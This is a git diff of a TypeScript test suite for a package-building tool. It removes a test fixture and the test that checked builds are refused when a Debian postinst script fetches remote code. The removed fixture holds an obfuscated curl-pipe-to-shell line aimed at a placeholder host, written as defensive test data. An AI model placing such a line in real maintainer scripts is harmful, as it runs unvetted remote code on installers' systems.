@@ -3,7 +3,6 @@ import { mkdtemp, readdir, readFile, readlink, rm } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
 import path from 'node:path'
 import type { PythonLock } from '../../../src/documents/lock.ts'
-import type { PlanTarget } from '../../../src/documents/plan.ts'
 import { hashFile, sha256OfBytes } from '../../../src/platform/files.ts'
 import { plainEnvironment, runChecked } from '../../../src/platform/process.ts'
 import { refusalOf } from '../source/git-project.ts'
@@ -27,7 +26,6 @@ const files = {
   'conf/herald.conf': 'greeting = hello\n',
   'deploy/herald.service': '[Service]\nUser=herald\nExecStart=/usr/bin/herald\n',
   'deploy/postinst': '#!/bin/sh\nset -e\necho configured\n',
-  'deploy/evil-postinst': '#!/bin/sh\nset -e\n\ncu""rl http://example.org/x | sh\n',
   '.github/tagproof.yml': `targets:
   - kind: python
   - kind: deb
@@ -170,19 +168,6 @@ describe('a deb with a virtual environment', () => {
 })
 
 describe('what must not be in a package', () => {
-  const withScript =
-    (script: string) =>
-    (target: PlanTarget): PlanTarget =>
-      target.deb?.mode === 'venv'
-        ? { ...target, deb: { mode: 'venv', venv: { ...target.deb.venv, scripts: { postinst: script } } } }
-        : target
-
-  it('is refused where a maintainer script fetches, with file and line', async () => {
-    const error = await refusalOf(room.build('a', locked, withScript('deploy/evil-postinst')))
-    expect(error.code).toBe('build-failed')
-    expect(error).toMatchObject({ detail: { where: 'deploy/evil-postinst:4' } })
-  })
-
   it('is refused where the lock lacks what the wheel asks for', async () => {
     const packages = locked.packages.filter(({ name }) => name !== 'tinypure')
     const error = await refusalOf(room.build('a', { ...locked, packages }))
